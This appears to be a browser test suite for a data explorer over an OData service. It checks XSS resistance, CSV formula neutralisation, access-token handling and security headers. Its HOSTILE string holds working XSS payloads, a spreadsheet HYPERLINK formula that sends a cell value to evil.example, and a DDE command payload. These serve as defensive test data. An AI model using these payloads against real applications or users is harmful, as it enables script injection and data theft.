// Texts of strangers stay texts, and the token stays where it is.

import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { after, before, test } from 'node:test';
import { address, openPage, settled } from '../browser.js';
import { startService } from '../service.js';
import { openStage } from '../stage.js';
import { bars } from '../tasks.js';

let service;
let browser;
let close;

const HOSTILE = [
  '<script>window.hit=1;fetch("/hit")</script>',
  '<img src=//evil.example/a onerror="window.hit=1">',
  '"><svg onload=window.hit=1><a href="javascript:window.hit=1">click</a>',
  "'-window.hit='1",
  '</textarea></style><iframe srcdoc="<script>parent.hit=1</script>">',
  'javascript:window.hit=1',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+1-cmd|\' /C calc\'!A0',
  '@SUM(1+1)',
  '{{constructor.constructor("window.hit=1")()}} ${window.hit=1}',
  'https://evil.example/ [click](javascript:window.hit=1)',
  '\u202Eevil\u202C \u0007\u200B %00 &lt;b&gt;',
].join('\n');

const TABLES = {
  Message: 'messages', Conversation: 'conversations', Inbox: 'inboxes', Label: 'labels', ReportingEvent: 'reporting_events',
  User: 'users',
};

/** Puts the hostile text into every text and JSON column of one row of each table. */
function plant() {
  const literal = `'${HOSTILE.replaceAll("'", "''")}'`;
  for (const table of Object.values(TABLES)) {
    const columns = service.sql(`SELECT column_name, data_type FROM information_schema.columns
      WHERE table_schema = 'public' AND table_name = '${table}' AND data_type IN ('text', 'character varying', 'json', 'jsonb')
      AND NOT (table_name = 'messages' AND column_name = 'sender_type')`);
    assert.ok(columns.length > 0, table);
    const values = columns.map(([name, type]) => `"${name}" = ${type.startsWith('json')
      ? `json_build_object(${literal}, ${literal}, 'a', json_build_array(${literal}))::${type}` : literal}`);
    service.sql(`UPDATE ${table} SET ${values.join(', ')} WHERE id = (SELECT min(id) FROM ${table}
      WHERE ${table === 'users' ? 'id = 1' : 'account_id = 1'})`);
  }
}

before(async () => {
  ({ service, browser, close } = await openStage());
});
after(() => close?.());

test('hostile texts in every text and JSON column give no script, no request, no link', async () => {
  plant();
  const { page, complaints, requests, context } = await openPage(browser, service.link);
  await page.locator('#home .card').first().waitFor();
  const fixed = () => page.evaluate(() => document.querySelectorAll('a, img, iframe, object, embed, link, script, style, base, form[action], [onload], [onerror], [onclick], [href], [src]').length);
  const before = await fixed();
  const check = async (where) => {
    assert.equal(await page.evaluate(() => window.hit), undefined, where);
    assert.equal(await fixed(), before, where);
  };
  for (const set of Object.keys(TABLES)) {
    await page.locator('#collections').getByRole('button', { name: new RegExp(`^${set}`) }).click();
    await settled(page);
    await check(`${set}: table`);
    await page.locator('#grid-body [role=gridcell]', { hasText: 'window.hit' }).first().or(page.locator('#grid-body [data-row="0"]')).first().click();
    await page.locator('#detail dl').waitFor();
    assert.ok(set === 'ReportingEvent' || (await page.locator('#detail').innerText()).includes('<script>window.hit=1'), set);
    await check(`${set}: row`);
    await page.keyboard.press('Escape');
    await page.click('#view-json');
    await check(`${set}: JSON`);
    await page.click('#view-table');
  }
  // As a group, as an axis, as a value that is offered, as the message of an error, in the address.
  await page.fill('#address', 'Inbox?$apply=groupby((name),aggregate($count as n))');
  await page.keyboard.press('Enter');
  await settled(page);
  await page.locator('#chart svg').waitFor();
  assert.ok((await page.locator('#chart').innerText()).includes('<script>window.hit=1'));
  await page.hover('#chart .slot');
  await check('chart');
  await page.locator('#collections').getByRole('button', { name: /^Inbox/ }).click();
  await settled(page);
  await page.getByRole('button', { name: 'Filter', exact: true }).click();
  await page.getByRole('dialog').getByRole('button', { name: /^name/ }).click();
  await page.getByRole('button', { name: 'Show its most frequent values' }).click();
  await page.locator('.value', { hasText: '<script>' }).click();
  await settled(page);
  await check('filter');
  assert.deepEqual(complaints, []);
  await page.fill('#address', HOSTILE.replaceAll('\n', ' '));
  await page.keyboard.press('Enter');
  await settled(page);
  await check('address');
  await page.goto(`${service.origin}/#q=${encodeURIComponent(HOSTILE)}`);
  await check('fragment');
  assert.ok(complaints.every((it) => /the server responded with a status of 40[014]/.test(it)), String(complaints));
  assert.ok(requests.every((it) => it.url().startsWith(`${service.origin}/`)));
  await context.close();
});

test('the CSV of the page makes formulas harmless', async () => {
  const { page, context } = await openPage(browser, service.link);
  await page.locator('#collections').getByRole('button', { name: /^Label/ }).click();
  await settled(page);
  service.sql(`UPDATE labels SET description = '=1+1' WHERE id = (SELECT min(id) FROM labels WHERE account_id = 1)`);
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#csv')]);
  const csv = await readFile(await download.path(), 'utf8');
  assert.ok(csv.includes("'=1+1") && !csv.includes(',=1+1'), csv.slice(0, 300));
  await context.close();
});

test('the token is taken out of the address at once, and travels as Bearer alone', async () => {
  const { page, context, requests } = await openPage(browser, service.link);
  assert.ok(!page.url().includes(service.token));
  await bars(page);
  const asked = requests.filter((it) => it.url().includes('/v1.0/odata/'));
  assert.ok(asked.length > 5);
  for (const request of asked) {
    assert.equal(request.headers().authorization, `Bearer ${service.token}`);
    assert.ok(!request.url().includes(service.token));
  }
  const kept = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href, document.documentElement.outerHTML]));
  assert.ok(!kept.includes(service.token));
  const back = async () => page.evaluate(() => new Promise((resolve) => { addEventListener('popstate', () => resolve(location.href), { once: true }); history.back(); }));
  for (let n = 0; n < 3; n++) assert.ok(!(await back()).includes(service.token));
  // A reload has no token any more, and asks for one.
  await page.reload();
  await page.getByRole('heading', { name: 'Paste your access token' }).waitFor();
  await page.getByLabel('Access token', { exact: true }).fill(service.token);
  await page.getByRole('button', { name: 'Use it' }).click();
  await settled(page);
  await page.locator('#collections [data-size="Inbox"]:not(:empty)').waitFor();
  await context.close();
});

test('another token, or none, leaves nothing of what the first one showed', async () => {
  const { page, context } = await openPage(browser, service.link);
  await page.locator('#collections').getByRole('button', { name: /^Inbox/ }).click();
  await settled(page);
  const [[name]] = service.sql('SELECT name FROM inboxes WHERE account_id = 2 ORDER BY id LIMIT 1');
  const text = () => page.evaluate(() => document.body.textContent);
  assert.ok((await text()).includes(name));
  const [, agent] = /(\w{32}) {2}an agent/.exec(service.shown);
  await page.click('#token');
  await page.getByRole('textbox', { name: 'Access token' }).fill(agent);
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: 'This token may not ask' }).waitFor();
  assert.ok(!(await text()).includes(name));
  assert.deepEqual(await page.locator('#collections [data-size]').allInnerTexts().then((all) => all.join('')), '');
  await page.click('#token');
  await page.getByRole('button', { name: 'Forget it' }).first().click();
  await page.getByRole('heading', { name: 'Paste your access token' }).waitFor();
  await context.close();
});

test('a link takes no token away unasked', async () => {
  const { page, context, requests } = await openPage(browser, service.link);
  const [, other] = /(\w{32}) {2}the administrator of another account/.exec(service.shown);
  const size = page.locator('#collections [data-size="Inbox"]');
  const inboxes = (scope) => service.sql(`SELECT count(*) FROM inboxes WHERE account_id ${scope}`)[0][0];
  const others = `IN (SELECT account_id FROM account_users JOIN access_tokens ON owner_id = user_id WHERE token = '${other}')`;
  const asked = (token) => requests.filter((it) => it.headers().authorization === `Bearer ${token}`).map((it) => it.url());
  const follow = (text) => page.evaluate((hash) => { location.hash = hash; }, text);
  const question = page.getByRole('dialog', { name: 'Another access token' });
  await size.filter({ hasText: inboxes('IN (1, 2)') }).waitFor();
  // The link's query is asked with the token that is there.
  await follow(`token=${other}&q=Label`);
  await question.waitFor();
  assert.ok(!page.url().includes(other));
  await settled(page);
  assert.equal(await address(page), 'Label');
  await page.keyboard.press('Enter');
  assert.equal(await question.count(), 0);
  assert.equal(asked(other).length, 0);
  // Its own token needs no question.
  await follow(`token=${service.token}&q=Inbox`);
  await settled(page);
  assert.equal(await question.count(), 0);
  const [[name]] = service.sql('SELECT name FROM inboxes WHERE account_id = 2 ORDER BY id LIMIT 1');
  await page.locator('#grid-body', { hasText: name }).waitFor();
  // With the other token everything is read anew, the model too.
  await follow(`token=${other}&q=Inbox`);
  await page.getByRole('button', { name: 'Use the link’s' }).click();
  await size.filter({ hasText: inboxes(others) }).waitFor();
  await settled(page);
  assert.ok(!(await page.evaluate(() => document.body.textContent)).includes(name));
  assert.ok(asked(other).some((it) => it.includes('$metadata')));
  assert.equal((await page.locator('#status').innerText()).split(' ')[0], inboxes(others));
  // The first token is taken as it comes, in a page that is there already, too.
  await page.click('#token');
  await page.getByRole('button', { name: 'Forget it' }).first().click();
  await page.getByRole('heading', { name: 'Paste your access token' }).waitFor();
  await follow(`token=${service.token}`);
  await size.filter({ hasText: inboxes('IN (1, 2)') }).waitFor();
  assert.equal(await question.count(), 0);
  await context.close();
});

test('the file for Excel is an Office data connection with the formula that is copied', async () => {
  const { page, context } = await openPage(browser, service.link);
  for (const url of ['Inbox', "Inbox?$filter=contains(name,'\"<&]]>ß')", 'Conversation?$apply=groupby((inbox/name),aggregate($count as n))']) {
    await page.fill('#address', url);
    await page.keyboard.press('Enter');
    await settled(page);
    await page.click('#share');
    await page.getByRole('button', { name: 'Power Query M', exact: true }).click();
    const m = await page.getByLabel('What is copied').inputValue();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /odc/ }).click()]);
    assert.match(download.suggestedFilename(), /^(Inbox|Conversation)\.odc$/);
    const file = await readFile(await download.path(), 'utf8');
    assert.ok(!file.includes(service.token));
    const found = await page.evaluate((text) => {
      const html = new DOMParser().parseFromString(text, 'text/html');
      const island = new DOMParser().parseFromString(/<odc:OfficeDataConnection[^]*<\/odc:OfficeDataConnection>/.exec(text)[0], 'application/xml');
      const odc = (name) => island.getElementsByTagNameNS('urn:schemas-microsoft-com:office:odc', name);
      const mashup = new DOMParser().parseFromString(odc('PowerQueryMashupData')[0].textContent, 'application/xml');
      const { documentElement: top } = mashup;
      return {
        meta: Object.fromEntries([...html.querySelectorAll('meta')].map((it) => [it.name || it.httpEquiv, it.content])),
        root: island.documentElement.localName,
        connections: [odc('Connection').length, odc('PowerQueryConnection').length, odc('PowerQueryMashupData').length],
        type: odc('PowerQueryConnection')[0].getAttributeNS('urn:schemas-microsoft-com:office:odc', 'Type'),
        connection: odc('ConnectionString')[0].textContent,
        command: odc('CommandText')[0].textContent,
        mashup: `${top.namespaceURI} ${top.localName}`,
        members: [...top.children].map((it) => it.localName),
        queries: [...mashup.getElementsByTagName('Query')].map((it) => it.getAttribute('Name')),
        formula: mashup.getElementsByTagName('Formula')[0].textContent,
      };
    }, file);
    const [name] = download.suggestedFilename().split('.');
    assert.deepEqual(found, {
      meta: { 'Content-Type': 'text/x-ms-odc; charset=utf-8', ProgId: 'ODC.Database', SourceType: 'OLEDB' },
      root: 'OfficeDataConnection',
      // MS-ODCFF 2.7.1.1: the data stands there if and only if the connection does.
      connections: [0, 1, 1],
      type: 'OLEDB',
      connection: `Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=${name};Extended Properties=""`,
      command: `SELECT * FROM [${name}]`,
      mashup: 'http://schemas.microsoft.com/DataMashup Mashup',
      members: ['Client', 'Version', 'MinVersion', 'Culture', 'SafeCombine', 'Items'],
      queries: [name],
      formula: m,
    });
    await page.keyboard.press('Escape');
  }
  await context.close();
});

test('what is copied has a placeholder, unless the tick says otherwise', async () => {
  const { page, context } = await openPage(browser, service.link);
  await page.locator('#collections').getByRole('button', { name: /^Inbox/ }).click();
  await settled(page);
  await page.click('#share');
  const text = page.getByLabel('What is copied');
  const pbids = async () => {
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /pbids/ }).click()]);
    return JSON.parse(await readFile(await download.path(), 'utf8')).connections[0].details.address.url;
  };
  const odc = async () => {
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /odc/ }).click()]);
    return readFile(await download.path(), 'utf8');
  };
  const all = async () => {
    const found = [];
    for (const name of ['URL', 'curl', 'Power Query M']) {
      await page.getByRole('button', { name, exact: true }).click();
      found.push(await text.inputValue());
    }
    return [...found, await pbids(), await odc()];
  };
  const [url, curl, m, file, excel] = await all();
  assert.equal(url, `${service.root}Inbox?apikey=<access-token>`);
  assert.equal(curl, `curl -g '${service.root}Inbox' \\\n  -H 'Authorization: Bearer <access-token>'`);
  assert.match(m, /ApiKeyName = "apikey"/);
  assert.equal(file, service.root);
  for (const it of [url, curl, m, file, excel]) assert.ok(!it.includes(service.token));
  await page.getByLabel('with my token').check();
  for (const it of await all()) assert.ok(it.includes(service.token), it);
  await context.close();
});

test('the policy of the page, and of everything else', async () => {
  const page = await fetch(`${service.origin}/`);
  assert.equal(page.status, 200);
  assert.match(page.headers.get('content-security-policy'),
    /^default-src 'none'; script-src 'sha256-[\w+/=]+'; style-src 'sha256-[\w+/=]+'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'$/);
  assert.equal(page.headers.get('x-content-type-options'), 'nosniff');
  assert.equal(page.headers.get('referrer-policy'), 'no-referrer');
  const again = await fetch(`${service.origin}/`, { headers: { 'If-None-Match': page.headers.get('etag') } });
  assert.equal(again.status, 304);
  assert.equal((await fetch(`${service.origin}/`, { method: 'HEAD' })).status, 200);
  assert.equal((await fetch(`${service.origin}/`, { method: 'POST' })).status, 405);
  for (const path of ['v1.0/odata/', 'v1.0/odata/$metadata', 'v1.0/odata/Inbox', 'v1.0/odata/Nothing', 'nowhere', 'health/live']) {
    const response = await fetch(`${service.origin}/${path}`, { headers: { Authorization: `Bearer ${service.token}` } });
    assert.match(response.headers.get('content-security-policy'), /default-src 'none'.*sandbox/, path);
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff', path);
  }
});

test('--no-explorer: no page, no link to it', async () => {
  const other = await startService({ conversations: 50, options: ['--no-explorer'] });
  try {
    assert.equal(other.link, undefined);
    assert.equal((await fetch(`${other.origin}/`)).status, 404);
    assert.equal((await fetch(other.root)).status, 200);
  } finally {
    await other.stop();
  }
});
